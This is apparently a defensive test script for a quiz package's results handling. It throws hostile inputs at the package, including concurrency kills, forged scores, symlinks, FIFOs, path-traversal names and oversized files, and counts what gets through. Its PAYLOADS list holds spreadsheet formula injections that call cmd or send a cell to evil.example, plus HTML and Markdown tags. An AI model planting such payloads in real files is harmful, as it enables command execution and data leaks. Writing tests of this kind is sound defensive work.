"""Throw what a hostile class would at the results path, and count what gets through.

    .venv/bin/python scripts/hostile_inputs.py            # full: 3 processes x 200 answers
    .venv/bin/python scripts/hostile_inputs.py --quick    # what tests/test_hostile_inputs.py runs
    .venv/bin/python scripts/hostile_inputs.py --json     # the table as JSON

Each category runs in its own process with a time limit (a hang counts as a
traceback). Per category it prints: inputs tried; clear errors (refused or
reported with a message naming the file, field or fix); tracebacks (an
exception escaped, or a hang); answers lost; injections that worked (a formula
cell in the CSV, a live tag in the HTML views); escapes (a forged score that
counted, a hostile file that was read, a value accepted that should not be, a
file written outside the folder or through a link). Everything but the first two
columns must be 0.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import io
import json
import math
import multiprocessing
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
COLUMNS = ("category", "inputs tried", "clear errors", "tracebacks", "answers lost",
           "injections that worked", "escapes")
PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
            "[click me](http://evil.example/)", "![x](http://evil.example/a.png)",
            "<img src=http://evil.example/b.png>"]


class Row(dict):
    def __init__(self, category: str) -> None:
        super().__init__({c: 0 for c in COLUMNS})
        self["category"] = category

    def add(self, **counts: int) -> None:
        for key, value in counts.items():
            self[key.replace("_", " ")] += value

    def attempt(self, call: Callable[[], object], refused: tuple[type[BaseException], ...]
                ) -> object:
        """One input: refused with one of ``refused`` counts as a clear error; any other
        exception as a traceback."""
        self.add(inputs_tried=1)
        try:
            return call()
        except refused:
            self.add(clear_errors=1)
        except Exception:
            traceback.print_exc(file=sys.stderr)
            self.add(tracebacks=1)
        return None


def _answer(question: str, given, **more) -> dict:
    return {"event": "answer", "question": question, "answer": given, "correct": True,
            "credit": 1.0, "attempt": 1, "time": "2026-11-29T08:00:00Z", **more}


def _file(student: str, events: list, quiz: str = "sample", **top) -> str:
    from parisbaku.quiz.resultsfile import FORMAT

    return json.dumps({"format": FORMAT, "version": 2, "student": student,
                       "quizzes": {quiz: {"title": "T", "events": events}}, **top})


def _sample_bank():
    import yaml

    from parisbaku import quiz

    text = (ROOT / "tests" / "fixtures" / "quiz_sample.yaml").read_text(encoding="utf-8")
    return quiz.validate_bank(yaml.safe_load(text))


# -- categories ----------------------------------------------------------------------
def _inode(path: Path) -> int | None:
    """Changes with every save (a save renames a new file into place)."""
    try:
        return path.stat().st_ino
    except FileNotFoundError:
        return None


def _saver(folder: str, worker: int, count: int, barrier) -> None:
    from parisbaku.quiz.store import ResultsStore

    store = ResultsStore("ana", folder)
    barrier.wait()
    for n in range(count):
        quiz = "exercise:ex1_loaded_terms" if worker % 2 else "sample"
        store.record_answer(quiz, "T", f"w{worker}-{n}", n, correct=False, credit=0, attempt=1)


def lost_answers(work: Path, processes: int, answers: int) -> Row:
    """Several processes saving for one student; a failed save, then a save; kill -9."""
    from parisbaku.quiz import store as store_module
    from parisbaku.quiz.store import ResultsStore

    row = Row("lost answers (concurrency, failures, kill -9)")
    folder = work / "concurrent"
    context = multiprocessing.get_context("spawn")
    barrier = context.Barrier(processes)
    workers = [context.Process(target=_saver, args=(str(folder), w, answers, barrier))
               for w in range(processes)]
    for p in workers:
        p.start()
    for p in workers:
        p.join(300)
    row.add(inputs_tried=processes * answers, tracebacks=sum(p.exitcode != 0 for p in workers))
    try:
        saved = json.loads((folder / "ana.json").read_text(encoding="utf-8"))
    except (OSError, ValueError):
        saved = {"quizzes": {}}
    questions = {e["question"] for q in saved["quizzes"].values() for e in q["events"]}
    row.add(answers_lost=processes * answers - len(questions))
    # a failed save (folder not writable), then a save: the held answer is written
    store = ResultsStore("bob", folder)
    real = store_module.os.replace

    def not_writable(*args: object) -> None:
        raise PermissionError(13, "Permission denied")

    store_module.os.replace = not_writable
    row.attempt(lambda: store.record_answer("q", "T", "held", "a", True, 1, 1), (OSError,))
    store_module.os.replace = real
    store.record_answer("q", "T", "next", "b", True, 1, 1)
    row.add(inputs_tried=1, answers_lost=2 - len(ResultsStore("bob", folder).current("q")))
    # kill -9 while saving: no temporary file survives the next save, the file stays valid
    script = ("import sys; from parisbaku.quiz.store import ResultsStore\n"
              "s = ResultsStore('cy', sys.argv[1])\n"
              "for n in range(10**6): s.record_answer('q', 'T', f'q{n}', 'x' * 5000, True, 1, 1)\n")
    kills = 4
    for _ in range(kills):
        before = _inode(folder / "cy.json")
        child = subprocess.Popen([sys.executable, "-c", script, str(folder)])
        deadline = time.monotonic() + 60
        while _inode(folder / "cy.json") == before and time.monotonic() < deadline:
            time.sleep(0.02)  # killed while saving, not while starting up
        time.sleep(0.1)
        child.send_signal(signal.SIGKILL)
        child.wait()
    row.add(inputs_tried=kills)
    ResultsStore("cy", folder).record_answer("q", "T", "after", "a", True, 1, 1)
    row.add(escapes=len(list(folder.glob(".cy.*.tmp"))))
    return row


def forged_scores(work: Path) -> Row:
    """Scores the students' files claim: out of range, not numbers, strings, or for
    questions no longer in the bank, or a wrong answer claimed right."""
    from parisbaku import results

    row = Row("forged scores")
    folder = work / "forged"
    folder.mkdir()
    forgeries = {"huge": "1e9", "nan": "NaN", "inf": "Infinity", "neg": "-1"}
    for name, credit in forgeries.items():
        (folder / f"{name}.json").write_text(
            _file(name, [_answer("icj-vote", "a", credit=0)]).replace('"credit": 0',
                                                                       f'"credit": {credit}'))
    (folder / "str.json").write_text(_file("str", [_answer("icj-vote", "a", correct="false")]))
    (folder / "claim.json").write_text(_file("claim", [_answer("icj-vote", "a")]))  # wrong
    (folder / "gone.json").write_text(_file("gone", [_answer("no-such-question", "b")]))
    r = results.load(folder, banks=[_sample_bank()])
    row.add(inputs_tried=7)
    row.add(clear_errors=len(r.problems) + len(r.disagreements()) + len(r.not_counted()))
    row.add(escapes=sum(s["points"] for s in r.scores()) > 0)
    return row


def bad_files(work: Path) -> Row:
    """Files that stop a naive reader: wrong types, FIFOs, links, devices, size, depth."""
    from parisbaku import results
    from parisbaku.quiz.resultsfile import MAX_FILE_BYTES
    from parisbaku.quiz.store import ResultsStore

    row = Row("bad results files")
    folder = work / "bad"
    folder.mkdir()
    outside = work / "outside.json"
    outside.write_text(_file("link", [_answer("icj-vote", "b")]))
    (folder / "first.json").write_text(_file("first", [_answer("icj-vote", "b", attempt="first")]))
    (folder / "full.json").write_text(_file("full", [_answer("icj-vote", "b", credit="full")]))
    os.mkfifo(folder / "fifo.json")
    (folder / "zero.json").symlink_to("/dev/zero")
    (folder / "link.json").symlink_to(outside)
    (folder / "dir.json").mkdir()
    (folder / "big.json").write_bytes(b" " * (MAX_FILE_BYTES + 1))
    (folder / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (folder / "binary.json").write_bytes(b"\xff\xfe\x00\x01")
    (folder / "version.json").write_text(_file("version", []).replace('"version": 2',
                                                                       '"version": "2"'))
    (folder / "event.json").write_text(_file("event", ["not an event"]))
    (folder / "quizzes.json").write_text(_file("quizzes", []).replace(
        '{"sample": {"title": "T", "events": []}}', '[1, 2]'))
    (folder / "ok.json").write_text(_file("ok", [_answer("icj-vote", "b")]))
    bad = len(os.listdir(folder)) - 1  # all but ok.json
    r = row.attempt(lambda: results.load(folder, banks=[_sample_bank()]), ())
    row.add(inputs_tried=bad - 1)
    if r is not None:
        row.add(clear_errors=len(r.problems))
        row.add(escapes=bad - len(r.problems) + (r.students != ["ok"]))
    # the student's own notebook meets a FIFO or a link where its file should be
    for name in ("fifo", "link"):
        store = row.attempt(lambda n=name: ResultsStore(n, folder), ())
        if store is not None:
            row.add(clear_errors=len(store.notices))
    return row


def _tags(text: str) -> int:
    """Live elements a browser would act on: links, images, scripts, frames."""
    found = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in ("a", "img", "script", "iframe", "object", "embed", "link", "form"):
                found.append(tag)

    Finder().feed(text)
    return len(found)


def injection(work: Path) -> Row:
    """Formulas in the CSV export; tags and links in the instructor's views."""
    from parisbaku import results
    from parisbaku.quiz.store import ResultsStore

    row = Row("injection (CSV, HTML, Markdown)")
    folder = work / "inject"
    store = ResultsStore("ana", folder)
    for n, payload in enumerate(PAYLOADS):
        store.record_answer("sample", "T", "capital-name", payload, False, 0, n + 1)
        (folder / f"s{n}.json").write_text(_file(payload, [_answer("capital-name", payload)]))
        (folder / f"q{n}.json").write_text(_file(f"q{n}", [_answer(payload, "x")], quiz=payload))
        (folder / f"v{n}.json").write_text(_file(f"v{n}", []).replace(
            '"version": 2', f'"version": {json.dumps(payload)}'))
    row.add(inputs_tried=4 * len(PAYLOADS))
    r = results.load(folder, banks=[_sample_bank()])
    own = work / "instructor"
    own.mkdir()
    victim = work / "victim.txt"
    victim.write_text("keep")
    (own / "class.csv").symlink_to(victim)
    out = r.to_csv(own / "class.csv")
    row.add(inputs_tried=1, escapes=victim.read_text() != "keep")
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for line in csv.reader(handle) for cell in line]
    row.add(injections_that_worked=sum(c.startswith(results.FORMULA_STARTS) for c in cells))
    row.attempt(lambda: r.to_csv(folder / "class_answers.csv"), (ValueError,))
    views = [r.overview()._repr_html_()] + [
        r.table(rows)._repr_html_() for rows in (r.scores(), r.not_counted(),
                                                   r.disagreements(), r.questions("sample"))]
    row.add(injections_that_worked=sum(_tags(view) for view in views))
    row.add(clear_errors=len(r.problems))
    return row


def banks_and_data(work: Path) -> Row:
    """Banks with NaN or infinite tolerances, keys given twice, wrong encodings, depth."""
    from parisbaku import data, quiz
    from parisbaku.cli import main as cli_main

    row = Row("banks and data files")
    copy = work / "data"
    shutil.copytree(ROOT / "data", copy)
    os.environ[data.DATA_ENV] = str(copy)
    bank = copy / "quizzes" / "sample.yaml"
    sample = (ROOT / "tests" / "fixtures" / "quiz_sample.yaml").read_text(encoding="utf-8")
    numeric = "answer: {value: 2022, tolerance: 0, unit: \"\"}"
    assert numeric in sample
    cases = {
        "tolerance .nan": sample.replace(numeric, "answer: {value: 2022, tolerance: .nan}"),
        "tolerance .inf": sample.replace(numeric, "answer: {value: 2022, tolerance: .inf}"),
        "answer given twice": sample.replace("    answer: b\n", "    answer: b\n    answer: a\n"),
        "questions given twice": sample + "questions: []\n",
        "deep nesting": sample + "extra: " + "[" * 5000 + "]" * 5000 + "\n",
    }
    for text in cases.values():
        bank.write_text(text, encoding="utf-8")
        data.clear_cache()
        if row.attempt(lambda: quiz.load_bank("sample"), (data.DataError,)) is not None:
            row.add(escapes=1)  # accepted: no one can be right, or everyone is
    bank.write_bytes(sample.replace("Sample quiz", "Sample “quiz”").encode("cp1252"))
    data.clear_cache()
    if row.attempt(lambda: quiz.load_bank("sample"), (data.DataError,)) is not None:
        row.add(escapes=1)
    bank.unlink()
    places = copy / "places.csv"
    places.write_bytes(places.read_bytes() + "x,Gäncä\n".encode("latin-1"))
    data.clear_cache()
    if row.attempt(lambda: data.load_csv("places.csv"), (data.DataError,)) is not None:
        row.add(escapes=1)
    # check-data goes on after a FAIL, and prints no traceback
    (copy / "lessons.yaml").write_bytes("lessons: “x”\n".encode("cp1252"))
    data.clear_cache()
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = row.attempt(lambda: cli_main(["check-data"]), ())
    said = err.getvalue()
    row.add(clear_errors=code == 1 and "FAIL lesson plan" in said and "data/places.csv" in said,
            tracebacks=said.count("Traceback"),
            escapes="ok   quiz" not in out.getvalue())  # went on to the later files
    return row


def names(work: Path) -> Row:
    """Names that collide by case or width, Windows device names, paths."""
    from parisbaku import InputError
    from parisbaku.quiz.store import ResultsStore

    row = Row("student names")
    folder = work / "names"
    for name in ("Ana", "ana", "ＡＮＡ", "Анна", "анна"):
        store = row.attempt(lambda n=name: ResultsStore(n, folder), (InputError,))
        if store is not None:
            store.record_answer("q", "T", f"from-{name}", "a", True, 1, 1)
    files = sorted(p.name for p in folder.glob("*.json"))
    row.add(escapes=len(files) - 2 + len(list(folder.glob("*.unreadable-*"))))
    row.add(answers_lost=5 - len(ResultsStore("ana", folder).current("q"))
            - len(ResultsStore("анна", folder).current("q")))
    for name in ("CON", "aux", "nul.txt", "com1", "LPT9", "../evil", "a/b", "／etc", "..",
                 "ana\x00", "<img src=x>", "x" * 65):
        if row.attempt(lambda n=name: ResultsStore(n, folder), (InputError,)) is not None:
            row.add(escapes=1)
    row.add(escapes=sum(1 for p in work.iterdir() if p.name != "names"))
    return row


def answer_types(work: Path) -> Row:
    """exercises.check with inputs of every type: a clear message, a short echo, a capped
    standard-JSON record."""
    import numpy as np

    from parisbaku import exercises
    from parisbaku.quiz import store
    from parisbaku.quiz.resultsfile import MAX_ANSWER_CHARS

    row = Row("answer types (exercises.check)")
    folder = work / "answers"
    os.environ[store.RESULTS_ENV] = str(folder)
    os.environ["PARISBAKU_STUDENT"] = "ana"

    class Weird:
        def __len__(self):
            raise RuntimeError("no length")

    deep: list = []
    for _ in range(5000):
        deep = [deep]
    inputs = [np.array(272.0), np.float64(3.5), 10**400, "x" * 10_000_000, math.nan, math.inf,
              b"bytes", object(), (n for n in range(3)), {1, 2}, {"a": [1]}, Weird(), deep,
              np.array([1.0, 2.0]), complex(1, 2), True]
    checks = {}
    for check_id, (_, chk) in exercises._load_all().items():
        checks.setdefault(chk.kind, check_id)
    for check_id in checks.values():
        for value in inputs:
            result = row.attempt(lambda c=check_id, v=value: exercises.check(c, v), ())
            if result is not None:
                row.add(clear_errors=1, escapes=len(str(result)) > 2 * exercises.MAX_QUOTE_CHARS
                        + 1000)
    text = (folder / "ana.json").read_text(encoding="utf-8")
    json.loads(text, parse_constant=lambda c: row.add(escapes=1))
    stored = [e["answer"] for q in json.loads(text)["quizzes"].values() for e in q["events"]]
    row.add(escapes=sum(len(json.dumps(a)) > MAX_ANSWER_CHARS + 2 for a in stored))
    return row


CATEGORIES: dict[str, Callable[..., Row]] = {
    "lost": lost_answers, "forged": forged_scores, "files": bad_files, "inject": injection,
    "data": banks_and_data, "names": names, "types": answer_types,
}


def _run(name: str, options: dict, queue) -> None:
    with tempfile.TemporaryDirectory() as work:
        try:
            queue.put(dict(CATEGORIES[name](Path(work), **options)))
        except Exception:
            traceback.print_exc()
            queue.put(None)


def run(quick: bool = False, timeout: float = 300) -> list[dict]:
    """Every category in a child process; a hang or a crash counts as a traceback."""
    rows = []
    context = multiprocessing.get_context("spawn")
    for name in CATEGORIES:
        options = {"processes": 3, "answers": 50 if quick else 200} if name == "lost" else {}
        queue = context.Queue()
        child = context.Process(target=_run, args=(name, options, queue))
        child.start()
        child.join(timeout)
        row = None
        if child.is_alive():
            child.kill()
            child.join()
        elif not queue.empty():
            row = queue.get()
        if row is None:
            row = Row(f"{name} (crashed or hung)")
            row.add(tracebacks=1)
        rows.append(row)
    return rows


def table(rows: list[dict]) -> str:
    lines = ["| " + " | ".join(COLUMNS) + " |", "|" + "---|" * len(COLUMNS)]
    lines += ["| " + " | ".join(str(r[c]) for c in COLUMNS) + " |" for r in rows]
    return "\n".join(lines)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--quick", action="store_true", help="3 x 50 answers instead of 3 x 200")
    parser.add_argument("--json", action="store_true", help="print the rows as JSON")
    args = parser.parse_args()
    rows = run(quick=args.quick)
    print(json.dumps(rows) if args.json else table(rows))
    bad = [r for r in rows if any(r[c] for c in COLUMNS[3:])]
    return 1 if bad else 0


if __name__ == "__main__":
    raise SystemExit(main())
